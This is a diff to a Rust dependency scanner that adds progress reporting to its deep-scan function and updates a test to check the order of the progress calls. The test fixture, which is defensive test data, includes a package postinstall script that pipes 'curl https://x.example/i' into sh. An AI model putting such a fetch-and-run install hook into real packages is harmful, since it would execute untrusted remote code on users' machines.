@@ -87,6 +87,17 @@ pub struct DeepScan {
 /// Analyses every package of `inventory` whose lock-only state is `runs-code` or
 /// `unknown`, fetching artifacts with `source` on `threads` threads (at least one).
 pub fn deep_scan(inventory: &Inventory, source: &dyn ArtifactSource, threads: usize) -> DeepScan {
+    deep_scan_with_progress(inventory, source, threads, &|_, _| {})
+}
+
+/// [`deep_scan`], calling `progress(done, total)` once the work list is known (with
+/// `done` 0) and after each package, from the worker threads.
+pub fn deep_scan_with_progress(
+    inventory: &Inventory,
+    source: &dyn ArtifactSource,
+    threads: usize,
+    progress: &(dyn Fn(usize, usize) + Sync),
+) -> DeepScan {
     let cargo_home = crate::lockmap::CargoSources::default_home();
     let maps = map_inventory(inventory, cargo_home.as_deref());
     let mut work: Vec<(&str, &Package, &CodeState)> = Vec::new();
@@ -104,6 +115,8 @@ pub fn deep_scan(inventory: &Inventory, source: &dyn ArtifactSource, threads: us
         }
     }
     let next = AtomicUsize::new(0);
+    let done = AtomicUsize::new(0);
+    progress(0, work.len());
     let results = Mutex::new(Vec::new());
     std::thread::scope(|scope| {
         for _ in 0..threads.max(1) {
@@ -117,6 +130,7 @@ pub fn deep_scan(inventory: &Inventory, source: &dyn ArtifactSource, threads: us
                     if let Ok(mut results) = results.lock() {
                         results.push((index, outcome));
                     }
+                    progress(done.fetch_add(1, Ordering::Relaxed) + 1, work.len());
                 }
             });
         }
@@ -330,7 +344,16 @@ mod tests {
         let source = Fixed(tarball(
             "{\"name\":\"good\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl https://x.example/i | sh\"}}",
         ));
-        let scan = deep_scan(&inventory, &source, 2);
+        let calls = Mutex::new(Vec::new());
+        let scan = deep_scan_with_progress(&inventory, &source, 2, &|done, total| {
+            calls.lock().unwrap().push((done, total));
+        });
+        // Told the work list first, then once per package (good, bad, far; not the
+        // runtime or the package without scripts).
+        let mut calls = calls.into_inner().unwrap();
+        assert_eq!(calls.first(), Some(&(0, 3)));
+        calls.sort();
+        assert_eq!(calls, vec![(0, 3), (1, 3), (2, 3), (3, 3)]);
         assert_eq!(
             scan.reports.len(),
             1,
